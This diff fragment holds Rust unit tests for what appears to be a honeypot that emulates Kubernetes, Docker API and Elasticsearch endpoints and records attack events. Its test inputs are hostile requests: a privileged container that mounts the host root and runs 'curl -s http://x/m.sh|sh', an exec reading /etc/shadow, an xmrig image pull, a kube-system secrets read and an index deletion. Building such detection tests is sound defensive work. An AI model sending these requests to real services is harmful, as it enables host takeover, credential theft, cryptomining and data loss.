+        let out = String::from_utf8_lossy(&resp.to_bytes(false, false)).into_owned();
         let (head, body) = split(&out);
+        assert!(out.ends_with("{\n  \"kind\": \"Status\",\n  \"apiVersion\": \"v1\",\n  \"metadata\": {},\n  \"status\": \"Failure\",\n  \"message\": \"forbidden: User \\\"system:anonymous\\\" cannot get path \\\"/api/v1/secrets\\\"\",\n  \"reason\": \"Forbidden\",\n  \"details\": {},\n  \"code\": 403\n}\n"), "{out}");
         assert!(head.starts_with("HTTP/1.1 403 Forbidden"));
         assert!(head.contains("Audit-Id: "));
         assert_eq!(body["kind"], "Status");
@@ -293,8 +864,117 @@ mod tests {
             body["message"],
             "forbidden: User \"system:anonymous\" cannot get path \"/api/v1/secrets\""
         );
-        let (out, _) = run("k8s", json!({}), b"GET /version HTTP/1.1\r\n\r\n");
-        assert_eq!(split(&out).1["gitVersion"], K8S_VERSION);
+        assert_eq!(k8s(&get("/api", true), &c, false).status, 401);
+        assert_eq!(k8s(&get("/version", false), &c, false).status, 200);
+        // The insecure plain port serves everything.
+        let (out, _) = run(
+            "k8s",
+            json!({"version": "v1.27.3"}),
+            b"GET /version HTTP/1.0\r\n\r\n",
+        );
+        assert_eq!(split(&out).1["gitVersion"], "v1.27.3");
+        assert_eq!(split(&out).1["minor"], "27");
+        assert!(
+            out.contains(
+                "{\n  \"major\": \"1\",\n  \"minor\": \"27\",\n  \"gitVersion\": \"v1.27.3\","
+            ),
+            "{out}"
+        );
+        let (out, _) = run("k8s", json!({}), b"GET /api HTTP/1.0\r\n\r\n");
+        assert_eq!(split(&out).1["kind"], "APIVersions");
+        let (out, _) = run("k8s", json!({}), b"GET /apis HTTP/1.0\r\n\r\n");
+        assert_eq!(split(&out).1["kind"], "APIGroupList");
+        let (out, _) = run("k8s", json!({}), b"GET /api/v1/namespaces HTTP/1.0\r\n\r\n");
+        assert_eq!(split(&out).1["items"][1]["metadata"]["name"], "kube-system");
+    }
+
+    fn actions(ev: &[crate::log::AttackEvent]) -> Vec<&crate::log::AttackEvent> {
+        ev.iter()
+            .filter(|e| e.details.extra.contains_key("action"))
+            .collect()
+    }
+
+    #[test]
+    fn docker_container_create_and_exec_are_recorded() {
+        use super::super::super::testing::run_events;
+        let body = r#"{"Image":"alpine","Cmd":["sh","-c","curl -s http://x/m.sh|sh"],"HostConfig":{"Binds":["/:/host"],"Privileged":true,"PidMode":"host"}}"#;
+        let input = format!(
+            "POST /v1.41/containers/create?name=x1 HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}\
+             POST /v1.41/containers/abc/exec HTTP/1.1\r\nContent-Length: 29\r\n\r\n{{\"Cmd\":[\"cat\",\"/etc/shadow\"]}}\
+             POST /v1.41/images/create?fromImage=xmrig%2Fxmrig&tag=latest HTTP/1.1\r\nConnection: close\r\n\r\n",
+            body.len()
+        );
+        let (out, f, ev) = run_events("docker_api", json!({}), input.as_bytes());
+        assert!(out.starts_with("HTTP/1.1 201 Created"), "{out}");
+        let a = actions(&ev);
+        assert_eq!(a.len(), 3, "{ev:?}");
+        let d = &a[0].details;
+        assert_eq!(a[0].kind, AttackKind::Exec);
+        assert_eq!(d.extra["action"], "container_create");
+        assert_eq!(d.extra["image"], "alpine");
+        assert_eq!(
+            d.extra["cmd"],
+            json!(["sh", "-c", "curl -s http://x/m.sh|sh"])
+        );
+        assert_eq!(d.extra["binds"], json!(["/:/host"]));
+        assert_eq!(d.extra["privileged"], true);
+        assert_eq!(d.extra["pid_mode"], "host");
+        assert_eq!(d.extra["name"], "x1");
+        assert_eq!(d.command.as_deref(), Some("sh -c curl -s http://x/m.sh|sh"));
+        assert_eq!(a[1].details.extra["action"], "exec_create");
+        assert_eq!(a[1].details.command.as_deref(), Some("cat /etc/shadow"));
+        assert_eq!(a[2].details.extra["image"], "xmrig/xmrig:latest");
+        assert_eq!(
+            f["actions"],
+            json!(["container_create", "exec_create", "image_pull"])
+        );
+    }
+
+    #[test]
+    fn k8s_secrets_and_exec_are_recorded() {
+        use super::super::super::testing::run_events;
+        let (out, _, ev) = run_events(
+            "k8s",
+            json!({}),
+            b"GET /api/v1/namespaces/kube-system/secrets HTTP/1.1\r\n\r\n\
+              POST /api/v1/namespaces/default/pods/web-0/exec?command=sh&command=-c&command=id&stdin=true HTTP/1.1\r\nConnection: close\r\n\r\n",
+        );
+        assert!(out.contains("\"kind\": \"SecretList\""), "{out}");
+        let a = actions(&ev);
+        assert_eq!(a[0].details.extra["action"], "secrets_read");
+        assert_eq!(a[0].details.extra["namespace"], "kube-system");
+        assert_eq!(a[1].kind, AttackKind::Exec);
+        assert_eq!(a[1].details.extra["pod"], "web-0");
+        assert_eq!(a[1].details.command.as_deref(), Some("sh -c id"));
+    }
+
+    #[test]
+    fn elasticsearch_indices_search_and_delete() {
+        use super::super::super::testing::run_events;
+        let (out, _, ev) = run_events(
+            "elasticsearch",
+            json!({}),
+            b"GET /_cat/indices?v HTTP/1.1\r\n\r\n\
+              POST /customers/_search HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: 26\r\n\r\n{\"query\":{\"match_all\":{}}}\
+              DELETE /customers HTTP/1.1\r\n\r\nPUT /read_me/_doc/1 HTTP/1.1\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}",
+        );
+        assert!(out.contains("health status index"), "{out}");
+        assert!(out.contains("customers"));
+        assert!(out.contains("\"acknowledged\":true"));
+        assert!(out.contains("\"result\":\"created\""));
+        let a = actions(&ev);
+        let names: Vec<&Value> = a.iter().map(|e| &e.details.extra["action"]).collect();
+        assert_eq!(
+            names,
+            [
+                &json!("index_search"),
+                &json!("index_delete"),
+                &json!("index_write")
+            ]
+        );
+        assert_eq!(a[0].details.extra["index"], "customers");
+        assert_eq!(a[1].details.command.as_deref(), Some("DELETE /customers"));
+        assert_eq!(a[2].details.extra["index"], "read_me");
     }
 
     #[test]
